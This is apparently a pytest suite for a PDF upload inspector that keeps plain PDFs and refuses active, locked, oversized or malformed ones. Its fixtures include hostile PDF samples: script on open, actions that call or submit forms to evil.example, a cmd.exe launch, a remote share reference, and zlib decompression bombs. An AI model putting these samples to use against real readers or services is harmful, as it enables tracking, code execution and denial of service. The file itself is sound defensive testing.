"""A PDF is kept as it came when it only shows pages; what runs, hides, locks or wears out a reader is refused."""

import io
import time
import zlib

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core import files, pdf_inspector
from core.errors import Refusal
from core.models import StoredFile
from core.pdf_inspector import judge

from .pdfs import PAGES, objects_in_a_stream, pdf, stream

pytestmark = pytest.mark.django_db

RUN = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PAGE = PAGES[3]


def keep(content, at, name="合同.pdf"):
    return files.store(SimpleUploadedFile(name, content), by=None, at=at, purpose="test")


def page_with(more):
    return {3: PAGE.replace(b"/Parent", more + b" /Parent", 1)}


def written_by_pypdf(**lock):
    writer, out = pypdf.PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    if lock:
        writer.encrypt(**lock)
    writer.write(out)
    return out.getvalue()


HARMLESS = {
    "one page": pdf(),
    "objects in an object stream": pdf(hidden={10: b"<< /Producer (x) >>"}),
    "opens on a page": pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "opens by an action that goes to a page": pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "opens by a reference": pdf({10: b"<< /S /GoTo /D [3 0 R /Fit] >>"}, catalog=b"/OpenAction 10 0 R"),
    "a link to a page on the web": pdf(
        page_with(b"/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.gov.cn) >> >>]")
    ),
    "a signature field": pdf({10: b"<< /FT /Sig /T (s) /F 4 >>"}, catalog=b"/AcroForm << /Fields [10 0 R] >>"),
    "chance bytes": pdf({10: stream(b"9/JSk2 /AA q#9/XFAx /JS /Launchpad", packed=False)}),
    "structure and transitions": pdf(page_with(b"/Trans << /S /Dissolve >> /Group << /S /Transparency >>")),
    "text after the end": pdf() + b"\n\n",
    "written by a library": written_by_pypdf(),
}


@pytest.mark.parametrize("kind", HARMLESS)
def test_what_only_shows_pages_is_plain(kind):
    assert judge(HARMLESS[kind]) == pdf_inspector.PLAIN


def test_a_plain_pdf_is_kept_byte_for_byte(at):
    """A contract that was written anew would lose its signature."""
    raw = HARMLESS["a signature field"]
    assert files.path_of(keep(raw, at)).read_bytes() == raw


ACTIVE = {
    "script on opening": pdf(catalog=b"/OpenAction " + RUN),
    "script in an object stream": pdf(hidden={10: RUN}, catalog=b"/OpenAction 10 0 R"),
    "script that nothing refers to": pdf(hidden={10: RUN}),
    "script in an object stream that no table names": pdf({10: objects_in_a_stream({11: RUN})}),
    "script beside the table": pdf().replace(b"startxref", b"77 0 obj " + RUN + b" endobj\nstartxref"),
    "name in disguise": pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
    "name in disguise in an object stream": pdf(hidden={10: b"<< /S /#4aava#53cript /J#53 (x) >>"}),
    "name by reference": pdf({10: b"/JavaScript", 11: b"<< /S 10 0 R >>"}),
    "script by name": pdf(catalog=b"/Names << /JavaScript << /Names [(a) 10 0 R] >> >>"),
    "script after going to a page": pdf({10: RUN}, catalog=b"/OpenAction << /S /GoTo /D [3 0 R] /Next [10 0 R] >>"),
    "script when a page opens": pdf(page_with(b"/AA << /O 10 0 R >>"), hidden={10: RUN}),
    "calls home when opened": pdf(catalog=b"/OpenAction << /S /URI /URI (https://evil.example) >>"),
    "calls home when a page opens": pdf(page_with(b"/AA << /O << /S /URI /URI (https://evil.example) >> >>")),
    "prints by itself": pdf(catalog=b"/OpenAction << /S /Named /N /Print >>"),
    "endless chain": pdf({10: b"<< /S /GoTo /Next 10 0 R >>"}, catalog=b"/OpenAction 10 0 R"),
    "launches": pdf(page_with(b"/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]")),
    "opens another file": pdf(hidden={10: b"<< /S /GoToR /F (//evil/share) >>"}),
    "sends a form": pdf(hidden={10: b"<< /S /SubmitForm /F (https://evil.example) >>"}),
    "attachment": pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "attachment on a page": pdf(hidden={10: b"<< /Subtype /FileAttachment >>"}),
    "attachment in a stream": pdf({10: stream(b"MZ", b"/Type /EmbeddedFile")}),
    "rich media": pdf(hidden={10: b"<< /Subtype /RichMedia >>"}),
    "film": pdf(hidden={10: b"<< /Subtype /Screen /A << /S /Rendition >> >>"}),
    "form program": pdf(catalog=b"/AcroForm << /XFA 10 0 R >>", more={10: stream(b"<xdp/>")}),
    "content of another file": pdf({10: stream(b"", b"/F (//evil/share)")}),
}  # fmt: skip


@pytest.mark.parametrize("kind", ACTIVE)
def test_what_runs_leaves_or_carries_something_is_found_wherever_it_stands(kind):
    assert judge(ACTIVE[kind]) == pdf_inspector.ACTIVE


LOCKED = {
    "password": written_by_pypdf(user_password="secret", algorithm="AES-256"),
    "old password": written_by_pypdf(user_password="secret", algorithm="RC4-40"),
    "only restricted": written_by_pypdf(user_password="", owner_password="owner", algorithm="AES-128"),
    "unknown lock": pdf(trailer=b"/Encrypt << /Filter /Mine /V 9 >>"),
}


@pytest.mark.parametrize("kind", LOCKED)
def test_a_lock_is_found(kind):
    assert judge(LOCKED[kind]) == pdf_inspector.LOCKED


def zeros(megabytes):
    pump, block = zlib.compressobj(9), bytes(1 << 20)
    return b"".join(pump.compress(block) for _ in range(megabytes)) + pump.flush()


def flate(data, more=b"/Filter /FlateDecode"):
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def nested(depth):
    return b"[" * depth + b"]" * depth


def looping_table():
    once = pdf()
    start = once.index(b"xref\n")
    return pdf(trailer=b"/Prev %d" % start)


@pytest.fixture(scope="module")
def heavy():
    bomb = zeros(330)
    return {
        "page content": pdf({10: flate(bomb)}),
        "object stream": pdf({10: flate(bomb, b"/Filter /FlateDecode /Type /ObjStm /N 1 /First 5")}, hidden={11: b"1"}),
        "table": pdf(hidden={10: b"1"}).replace(b"/Type /XRef", b"/Type /XRef /Length 9", 1)[:-20] + flate(bomb),
        "packed twice": pdf({10: flate(zlib.compress(zeros(1)), b"/Filter [/FlateDecode /FlateDecode]")}),
        "pixels": pdf({10: stream(b"", b"/Subtype /Image /Width 100000 /Height 100000")}),
        "nested arrays": pdf({10: nested(200_000)}),
        "nested dictionaries": pdf({10: b"<< /A " * 50_000 + b"1" + b" >>" * 50_000}),
        "objects": pdf(dict.fromkeys(range(10, pdf_inspector.MOST_OBJECTS + 20), b"1")),
        "a wide array": pdf({10: b"[" + b"1 " * 3_000_000 + b"]"}),
    }


HEAVY = ["page content", "object stream", "table", "packed twice", "pixels", "nested arrays", "nested dictionaries",
         "objects", "a wide array"]  # fmt: skip
LOOPS = {
    "page tree": pdf({2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
    "parent": pdf({3: PAGE.replace(b"2 0 R", b"3 0 R")}),
    "length": pdf({10: b"<< /Length 10 0 R >>\nstream\nx\nendstream"}),
    "object stream in itself": pdf(hidden={90: b"1"}),
    "table": looping_table(),
    "filter": pdf({10: b"<< /Length 1 /Filter 10 0 R >>\nstream\nx\nendstream"}),
}


@pytest.mark.parametrize("kind", HEAVY)
def test_a_bomb_is_refused(kind, heavy, at):
    with pytest.raises(Refusal, match=r"“合同\.pdf”(?:太复杂|不完整)"):
        keep(heavy[kind], at)
    assert not StoredFile.objects.exists()


@pytest.mark.parametrize("kind", LOOPS)
def test_a_loop_ends(kind):
    started = time.monotonic()
    assert files._inspected(LOOPS[kind])
    assert time.monotonic() - started < pdf_inspector.CPU_SECONDS / 2  # long before a limit would end it


CUT = {
    "cut": pdf()[:-40],
    "half": pdf()[:200],
    "only a head": b"%PDF-1.7\n",
    "no page": pdf({2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
    "words": b"%PDF-1.7 lorem ipsum %%EOF",
    "script behind nonsense": pdf(hidden={10: b"<< /A )( /S /JavaScript >>"}),
    "an object that two readers would read differently": pdf({10: b"<< /S /GoTo /S /Named >>"}),
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 4_000,
}


@pytest.mark.parametrize("kind", CUT)
def test_what_is_no_whole_pdf_is_found(kind):
    assert judge(CUT[kind]) == pdf_inspector.BROKEN


@pytest.mark.parametrize(
    ("raw", "sentence"),
    [
        (ACTIVE["script in an object stream"], "里有脚本、附件"),
        (LOCKED["only restricted"], "设了密码或限制"),
        (CUT["cut"], "不完整"),
    ],
)
def test_each_refusal_is_a_sentence_with_the_files_name_and_nothing_is_kept(raw, sentence, at, settings):
    with pytest.raises(Refusal, match=rf"“合同\.pdf”{sentence}"):
        keep(raw, at)
    assert not StoredFile.objects.exists()
    assert not [path for path in settings.MEDIA_ROOT.rglob("*") if path.is_file()]


# What the inspector is given, and what becomes of one that goes wrong


@pytest.fixture
def inspector(monkeypatch, tmp_path):
    """`inspector("print('plain')")` puts another program into the inspector's place."""

    def replace(code):
        path = tmp_path / "inspector.py"
        path.write_text(code)
        monkeypatch.setattr(files, "_INSPECTOR", path)

    return replace


def test_an_inspector_that_hangs_is_ended(inspector, monkeypatch, at):
    inspector("import time; time.sleep(60)")
    monkeypatch.setattr(files, "_INSPECTED_WITHIN", 0.5)
    with pytest.raises(Refusal, match="太复杂"):
        keep(pdf(), at)


def test_one_that_works_too_long_is_ended_by_its_own_limit(inspector, at):
    limits = "import resource; resource.setrlimit(resource.RLIMIT_CPU, (1, 1))\n"
    inspector(limits + "while True: pass")
    with pytest.raises(Refusal, match="太复杂"):
        keep(pdf(), at)


def test_one_that_fails_refuses_the_file_and_says_so_in_the_log(inspector, at, caplog):
    inspector("raise SystemExit('no pypdf here')")
    with pytest.raises(Refusal, match="太复杂"):
        keep(pdf(), at)
    assert "no pypdf here" in caplog.text


def test_the_inspector_is_told_none_of_the_portals_secrets(inspector, at, monkeypatch):
    monkeypatch.setenv("FIELD_KEYS", "secret")
    inspector("import os; print('active' if 'FIELD_KEYS' in os.environ else 'plain')")
    assert keep(pdf(), at)
